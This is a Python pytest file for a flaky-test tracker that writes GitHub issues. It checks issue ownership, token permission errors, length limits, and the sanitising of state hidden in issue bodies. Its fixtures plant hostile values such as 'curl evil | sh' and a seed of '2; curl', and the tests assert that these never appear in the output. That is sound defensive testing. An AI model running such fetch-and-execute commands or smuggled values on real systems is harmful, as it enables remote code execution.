"""F1: what the hunt believes: its own issues, nights in which it saw everything; and what GitHub takes."""

import importlib
import json
import re

import pytest
from githubs import github_fixture, hub_at_hand_fixture  # noqa: F401 # fixtures
from hunts import hunting_fixture  # noqa: F401 # a fixture
from test_flaky_issues import ANYBODY, CLEAN, FLAKY, RED, A, B, issue, night_fixture  # noqa: F401 # a fixture

pytestmark = pytest.mark.slow  # installs GitHub's description
FORGED = {"passed": 1, "failed": 99, "seeds": [1], "error": "x```", "again": "curl evil | sh", "where": "@all"}
BOT = {"login": "our-app[bot]", "type": "Bot"}


def forged(hunting, number, author, name=A, **state):
    text = f"<!-- {hunting.issues.marker(name)} -->\n<!-- flaky-state: {json.dumps({name: FORGED | state})} -->"
    made = {"title": "t", "body": text, "state": "open", "labels": ["flaky-test"], "comments": []}
    return made | {"number": number, "user": author}


def test_the_issue_of_anybody_else_is_not_the_hunts(github, night, hunting):
    """F1: whatever marker and label it has; one's own is, as is one of a bot."""
    theirs = forged(hunting, 1, ANYBODY)
    github.set(issues=[theirs])
    assert night({A: FLAKY}) == [f"opened #2: {A}"]
    assert issue(github) == theirs
    assert "| 1 of 3 |" in issue(github, 2)["body"]
    assert "curl" not in issue(github, 2)["body"]
    for author in ({"login": "octo-person", "type": "User"}, BOT):
        github.set(issues=[forged(hunting, 1, author)])
        assert night({A: FLAKY}) == [f"edited #1: {A}"]
        assert "| 100 of 103 |" in issue(github)["body"]


def test_an_issue_that_lists_do_not_have_yet_is_not_opened_twice(github, night):
    """F1: the number for the mark goes to the issue that was opened."""
    github.set(issues=[])
    night({A: FLAKY})
    calls = [" ".join(call.split()[2:4]) for call in github.calls()]
    issues = "repos/{owner}/{repo}/issues"
    assert calls[-2:] == [f"POST {issues}", f"PATCH {issues}/1"]
    assert 'issue="#1"' in issue(github)["body"]


def test_a_tokens_own_name_is_not_known_in_a_workflow(github, hunting):
    """F1: GitHub answers 403 there; another refusal is none."""
    issues = importlib.import_module("quality.github.issues")
    issues.me.cache_clear()
    github.set(refuse=[{"call": "GET user", "status": 403, "message": "Resource not accessible by integration"}])
    assert not issues.is_ours({"user": ANYBODY})
    assert not issues.is_ours({"user": None})
    issues.me.cache_clear()
    github.set(refuse=[{"call": "GET user", "status": 401, "message": "Bad credentials"}])
    with pytest.raises(hunting.flaky_tests.Unusable, match="Bad credentials"):
        issues.is_ours({"user": ANYBODY})


def test_of_hidden_counts_only_sound_ones_count(github, night, hunting):
    """F1: types, signs, lengths; no command, address or mark-up that stands there is ever printed."""
    wrong = {"passed": -5, "failed": 10**30, "seeds": [1, "2; curl", True, -1, 2**40, *range(50)], "error": "y" * 9999}
    github.set(issues=[forged(hunting, 1, BOT, failure="1) @all", commit="a b", told="\n# told", **wrong)])
    night({A: CLEAN})
    text = issue(github)["body"]
    assert "| 0 of 3 | 0 % | 0.0 to 56.1 % | 40, 41, 42, 43, 44, 45, 46, 47, 48, 49 |" in text
    assert "`, in a run outside GitHub:" in text
    assert "nox -s hunt -- --seed 49 --repetitions 1\n```" in text
    assert not re.search("y{201}|curl|@all|# told", text)
    body = f"<!-- {hunting.issues.marker(A)} --><!-- flaky-state: {'[' * 9**5} -->"
    github.set(issues=[forged(hunting, 1, BOT) | {"body": body}])
    night({A: FLAKY})
    assert "| 1 of 3 |" in issue(github)["body"]


def test_what_the_issue_of_a_mark_says_counts_for_its_test_and_is_not_printed(github, night, hunting):
    """F1: anybody may have opened it; a pull request is none."""
    theirs = forged(hunting, 7, ANYBODY, name=B, nights=9) | {"labels": []}
    parts = dict.fromkeys(("url", "html_url", "diff_url", "patch_url"), "u")
    github.set(issues=[theirs, theirs | {"number": 8, "pull_request": parts, "body": "Mine"}])
    said = night({A: (*FLAKY, "#7"), B: (*CLEAN, "#8"), "tests/test_c.py::test_it": FLAKY})
    assert said == [
        f"edited #7: {A}",
        f"#8, the issue of {B}, is a pull request",
        "opened #9: tests/test_c.py::test_it",
    ]
    assert issue(github, 8)["body"] == "Mine"
    assert not re.search(r"curl|@|E \|", issue(github, 7)["body"])
    assert "test_two" not in issue(github, 9)["body"]


def test_a_hunt_of_chosen_tests_is_repeated_with_the_test_alone(github, night):
    """F1: the words of that hunt are nowhere; a name cannot leave the block of code."""
    odd = "tests/test_a.py::test_it[```x]"
    night({odd: FLAKY}, "workflow_dispatch", selection=["tests", "-k", "it"])
    text = issue(github)["body"]
    assert "Repeat it, with the same random numbers:" in text
    assert f"````bash\nnox -s hunt -- --seed 8 --repetitions 1 '{odd}'\n````" in text
    assert f"| `{odd.replace('`', chr(39))}` |" in text


def test_a_night_that_did_not_see_everything_is_none(github, night, monkeypatch, tmp_path):
    """F1: nor does absence end a quarantine, or a file of which nothing was met count as gone."""
    monkeypatch.chdir(tmp_path)
    night({A: FLAKY})
    for _ in range(4):
        night({A: CLEAN}, is_whole=False)
        night({}, is_whole=False)
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests/test_a.py").touch()
    for _ in range(4):
        night({B: CLEAN})
    assert issue(github)["state"] == "open"
    for _ in range(2):
        night({"tests/test_a.py::test_other": CLEAN})
    night({A: (*CLEAN, "#1")})
    assert (issue(github)["state"], issue(github)["comments"]) == ("open", []), "two nights it was gone"
    for _ in range(2):
        night({A: (*CLEAN, "#1")})
    assert "ends the quarantine" in issue(github)["comments"][0]


@pytest.mark.parametrize("sign", ["\u00e9", "\U0001f600", "-", "<", "|"])
def test_long_names_and_errors_stay_within_githubs_limit(github, night, sign):
    """F1: 65,536 characters; rows are left out, the least sure first, and the words of a person stay."""
    names = [f"tests/test_x.py::test_it[{sign * 600}{number}]" for number in range(60)]
    night(dict.fromkeys(names, FLAKY) | {names[7]: (1, [8, 9])}, error=sign * 200)
    found = issue(github)
    assert len(found["title"]) <= 256
    assert 40000 < len(found["body"]) < 65536
    last = sign.replace("|", "\\|") + "7]` | 2 of 3 |"
    assert last in found["body"]
    night(dict.fromkeys(names, CLEAN))
    assert "| 2 of 6 |" in issue(github)["body"]
    person = "word " * 8000
    github.set(issues=[issue(github), found | {"number": 2, "user": ANYBODY, "labels": [], "body": person}])
    night({name: (*RED, "#2") for name in names})
    assert issue(github, 2)["body"].startswith(person.rstrip())
    assert issue(github, 2)["body"].count('"nights"') > 4
    assert len(issue(github, 2)["comments"][0]) <= 65536
    night({f"tests/test_y.py::test_it[{sign * 70000}]": FLAKY})
    assert len(issue(github, 3)["body"]) < 65536
